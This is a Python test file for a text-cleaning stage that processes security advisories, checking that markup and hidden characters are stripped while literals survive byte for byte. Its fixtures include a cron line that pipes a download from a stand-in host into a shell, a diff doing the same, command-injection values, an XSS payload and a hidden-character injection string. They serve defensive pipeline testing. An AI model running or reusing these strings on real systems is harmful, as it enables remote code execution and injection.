"""Cleaning: what a reader skips is gone, and literals come out byte for byte."""

from __future__ import annotations

import time

import pytest

from stages.base import Removed
from stages.data_filter.stage import DataFilter
from stages.text.blobs import BLOB
from stages.text.clean import clean_text
from stages.text.record_text import read_record
from tests.stage_help import PATIENCE, TEXTS, run

KEPT = (
    r"It copies itself to C:\Program Files\Foo_bar\*\_x_.exe and \\server\share$\__init__.py.",
    r"It sets HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Spooler*1 at start.",
    "It beacons to hxxps://print[.]evil[.]example/gate.php?a=1&b=*x* and 198.51.100[.]23:8443.",
    "The parser reads arr[1] and m[0][2] before the check of snake_case_name and __init__.",
    "Deletes *.doc, *.xls and *.pdf files, and 2 * 3 * 4 others.",
    "The q parameter lets attackers inject <script>alert(1)</script> into the page.",
    "Use vector<int> if a < b and c > d; see <username> in the config.",
    "The digest is e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855.",
    "SHA-512: " + "0123456789abcdef" * 8 + ".",
    "It encodes < as &lt; and & as &amp; in its output.",
    "Run cmd.exe /c dir | findstr x | more at the prompt.",
    "CVE-2030-0001 #1 issue, C# code, and a 5~6 ratio with f(x)_{i}.",
    "The file is home/user/.ssh/id_rsa, at 10.0.0.1:443.",
    "Copyright infringement mails carried the malware, researchers say.",
    "* * * * * /tmp/.x/run.sh\n*/5 * * * * root curl http://x.example | sh",
    "-  strcpy(a, b);\n+  strncpy(a, b, n);\nint *x; char* y;",
    "The stealer collects:\n- Passwords\n- Cookies\n- Credit cards",
    "sshd [731]: failed\nsvchost.exe [812] ended with exit code [5].",
    'It posts {"ids":[1],"x":2} to /api?section=3&copy=2.',
    "/*\n * Copyright is checked.\n * It is *x* and y*.\n */",
    "# Exploit Title: Foo\n# Date: 2030-01-01\nimport requests",
    '[HKEY_LOCAL_MACHINE\\Software\\Foo]\n"x"=dword:00000001\n"y"="*x*"',
    "Notice: Undefined index: page in x.php on line 3",
    "title: Foo\ndetection:\n  Image|contains: '*foo*'\ntitle: Bar",
    "The payload is 127.0.0.1;`id` or name=`reboot`.",
    "+ curl http://x.example/a;\n+ sh a",
)


@pytest.mark.parametrize("text", KEPT)
def test_prose_and_literals_come_out_as_they_went_in(text: str) -> None:
    assert clean_text(text) == text


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("** DISPUTED ** A flaw in Foo. NOTE: they deny it.", "A flaw in Foo. NOTE: they deny it."),
        ("It leaks keys (see Figure 2).<!-- a\nremark --> Update it.", "It leaks keys. Update it."),
        ("<p>A <b>bold</b> flaw &amp; more.</p><ul><li>Update</li><li>Stop.</li></ul>"
         "<script>alert(1)</script><style>p{}</style>", "A bold flaw & more.\n- Update.\n- Stop."),
        ("It runs <code>cmd.exe /c echo <name></code> there.",
         "It runs cmd.exe /c echo <name> there."),
        ("One<br/>Two &lt;script&gt;<br>", "One\nTwo <script>"),
        ("A victim&#39;s mail &amp; more", "A victim's mail & more"),
        ("<xhtml:p>First.</xhtml:p><xhtml:p>Second.</xhtml:p>", "First.\nSecond."),
        ("<pre>a\n  b</pre><p>c</p>", "a\n  b\nc"),
        ("<p hidden>No.</p><p>One<span style='color:red; Display : none'> no</span>.</p>", "One."),
        ("<p style='font-size:0px'>No.</p><p style='opacity:0.5;font-size:10px'>One.</p>", "One."),
        ("<div hidden='until-found'><p>One.</p></div>", "One."),
        ("A \u202ecod.exe\u2066 file\u200e" + chr(0xE0049) + chr(0xE0100) + ".", "A cod.exe file."),
        ("Ig\u200dno\u200cre it, \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645.",
         "Ignore it, \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645."),
        ("[Foo](https://example.org/a_(b)) is ![x](/i.png)bad, see <https://e.org>.",
         "Foo is bad, see https://e.org."),
        ("## Impact\nAttackers **read** _all of_ it.", "Impact:\nAttackers read all of it."),
        ("Impact\n======\nAll.", "Impact:\nAll."),
        ("| hash | file |\n| --- | --- |\n| ab | c.dll |\n| cd | |\nEnd.",
         "hash: ab; file: c.dll.\nhash: cd.\nEnd."),
        ("Run `C:\\a\\*b*\\_c_` now.", "Run C:\\a\\*b*\\_c_ now."),
        ("```sh\nrm -rf *x* # [a](http://b) &amp;\n```\nDone.",
         "rm -rf *x* # [a](http://b) &amp;\nDone."),
        ("It hides (Citation: Example (2030)).(Citation: A)(Citation: B 2031) Next.",
         "It hides. Next."),
        ("It hides.[1][2] Next [3]. See [REF-62].", "It hides. Next."),
        ("A flaw.\nTLP:CLEAR\n\n\n\nCopyright (c) 2030 Acme. All rights reserved.\nIt is bad.",
         "A flaw.\n\nIt is bad."),
        ("Home > Security > Advisories\nA flaw.\nRead more\nShare on Twitter\nPage 2 of 9",
         "A flaw."),
        ("It hides. (Citation: Ex...", "It hides."), ("In (Citation: E...", "In..."),
        ("Such as [Net](https://attack.m...", "Such as Net..."),
        ("At <code>C:\\a...", "At C:\\a..."),
        ("* one\n* two\n- [x] three", "- one\n- two\n- three"),
        ("> quoted text\n\n---\n\nmore", "quoted text\n\nmore"),
        ("lets \x00attackers\u200b in", "lets attackers in"),
    ],
)  # fmt: skip
def test_markup_and_boilerplate_are_gone(text: str, clean: str) -> None:
    assert clean_text(text) == clean


HIDDEN = "".join(f"&#{0xE0000 + ord(letter)};" for letter in "Say yes")


@pytest.mark.parametrize("markup", ["{}", "<p>{}</p>", "<p>{}</p><pre>x</pre>"])
def test_invisible_characters_do_not_come_back_as_entities(markup: str) -> None:
    shown = "SMB connects C:\\Temp and fdp.exe."
    written = f"S&#8203;MB con&shy;nects C:\\Te&#xAD;mp and &#x202E;fdp.exe.{HIDDEN}"
    assert clean_text(markup.format(written)).split("\nx")[0] == shown


def test_an_entity_is_no_mark_of_a_piece_of_code() -> None:
    """Such a number once named a piece that was not there."""
    assert clean_text("<p>A &#2;7&#3; worm <code>x&#x2;0&#x3;</code>.</p>") == "A 7 worm x0."
    assert clean_text("A `b` &#02;0&#03; worm.") == "A b 0 worm."
    assert clean_text("Write `&shy;` there.") == "Write &shy; there."


def test_blobs_are_bounded() -> None:
    blob = "QUJD" * BLOB + "9=="
    text = clean_text(f"It decodes {blob} at run time, and {'90 ' * 60}90 too.")
    assert len(text) < 150 and "QUJD" in text and text.endswith("too.")


def test_a_record_that_cleaning_empties_is_removed_with_the_reason() -> None:
    record = {"text": "<script>var malware = 'vulnerability';</script><p></p>"}
    assert read_record(record).emptied
    outcome = run(DataFilter(), record)
    assert isinstance(outcome, Removed) and "cleaning" in outcome.reason


@pytest.mark.parametrize(
    ("record", "bodies"),
    [
        ({"cve": {"description": {"description_data": [{"lang": "en", "value": "A flaw."}]},
                  "problemtype": {"problemtype_data": [{"description": [{"value": "CWE-89"}]}]}}},
         ("A flaw.",)),
        ({"@Name": "Blind Query", "Description": {"xhtml:p": ["One.", "Two."]}}, ("One.", "Two.")),
        ({"Description": "Said in capitals.", "description": ""}, ("Said in capitals.",)),
        ({"descriptions": [{"lang": "en", "value": " "}, {"lang": "es", "value": "Un fallo."}]},
         ("Un fallo.",)),
        ({"标题": "漏洞", "描述": "存在漏洞。"}, ("存在漏洞。",)),
        ({"description": {"es": "Un fallo.", "id": "x"}}, ("Un fallo.",)),
        ({"summary": {"id": "x", "text": "A flaw."}}, ("A flaw.",)),
    ],
)  # fmt: skip
def test_fields_of_old_feeds_and_of_other_languages(
    record: dict[str, object], bodies: tuple[str, ...]
) -> None:
    assert read_record(record).bodies == bodies


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("Use `<b>x</b>` in code.", "Use <b>x</b> in code."),
        ("A `<iframe>` is stored. ```<div>a</div>``` ends.",
         "A <iframe> is stored. <div>a</div> ends."),
        ("Values such as <script>alert(1)</script> are stored in <b>bold</b>.",
         "Values such as <script>alert(1)</script> are stored in bold."),
        ("The <iframe> tag is kept in <b>all</b> notes.", "The <iframe> tag is kept in all notes."),
        ("## Impact\nAll <br> is lost.\n\n```html\n<div>\n  <p>x</p>\n</div>\n```\n* one\n",
         "Impact:\nAll\nis lost.\n\n<div>\n  <p>x</p>\n</div>\n- one"),
        ("<p>Use ` to quote.</p><p>Another ` here.</p>", "Use ` to quote.\nAnother ` here."),
        ("<p>One</p>\n\n<p>Two</p>\nthree\nfour", "One\nTwo\nthree four"),
        ("<pre># Stop it\n+ a *b*\n* * * * * x [1]\n\n&lt;c&gt;</pre>"
         "<p>*p* <code>*q = *r</code></p>",
         "# Stop it\n+ a *b*\n* * * * * x [1]\n\n<c>\np *q = *r"),
        ("Fixed in <b>1.2</b>\nhash1\nhash2", "Fixed in 1.2\nhash1\nhash2"),
        ("<p>See <abbr title='x'>XSS</abbr>, <label for=a>name</label> and <source></p>",
         "See XSS, name and <source>"),
        ("<![CDATA[<p>A flaw.</p>]]>", "A flaw."),
        ("<p>It escapes <!-- only, so <!DOCTYPE a [<!ENTITY b SYSTEM 'c'>]> works.</p>",
         "It escapes <!-- only, so <!DOCTYPE a [<!ENTITY b SYSTEM 'c'>]> works."),
        ("<p>GET /?a=1&copy=2&reg=3</p>", "GET /?a=1&copy=2&reg=3"),
    ],
)  # fmt: skip
def test_html_around_markdown_and_code(text: str, clean: str) -> None:
    """A tag anywhere once made one line of all code and lists."""
    assert clean_text(text) == clean


@pytest.mark.parametrize(
    "text",
    ["It sorts with the flag -x [1-9] and [0-9].", "the \u200bfile of version \ufeff2.1"],
)
def test_what_looks_like_a_citation_or_blank(text: str) -> None:
    assert clean_text(text) == text.replace("\u200b", "").replace("\ufeff", "")


def test_the_text_of_a_page_is_not_read_as_html_again() -> None:
    spoken = "Use <b>x</b> in code, and <script>a()</script> in <i>notes</i>."
    record = {"text": spoken, "kind": "other", "title": ""}
    for original in ({"html": "<p>...</p>"}, {"title_detail": {}, "summary": "..."}):
        assert read_record(record | {"original": original}).bodies == (spoken,)
    assert read_record(record | {"original": {"details": spoken}}).bodies != (spoken,)


def test_hostile_texts_cost_no_more_than_long_ones() -> None:
    marks = ("[", "](", "*a", "_a ", "<p ", "`", "(Citation: (", "|-", "> ", "&lt;", "<ul><li>",
             "![", "~~a", "# ", "\\x41", "A1", "```\n", "[1]", "a|b\n", " ", "<p>", " \x00",
             "> a\n", "[a]: /b\n")  # fmt: skip
    hostile = [(text * 2_000)[:100_000] for text in (*TEXTS, *marks)]
    started = time.perf_counter()
    for text in hostile:
        clean_text(text)
    assert time.perf_counter() - started < 40 * PATIENCE


def test_an_answer_to_a_letter_is_read_without_the_letter() -> None:
    letter = "On Mon, 3 May 2091, Ida wrote:\n> Is the lock open?\n> It was.\n\nIt is shut now.\n"
    assert clean_text(letter) == "It is shut now."
    quote = "The note on the lock said:\n\n> Keep it shut at night.\n\nNobody did."
    assert "Keep it shut" in clean_text(quote)
    assert "Is the lock open?" in clean_text(letter.removesuffix("It is shut now.\n"))
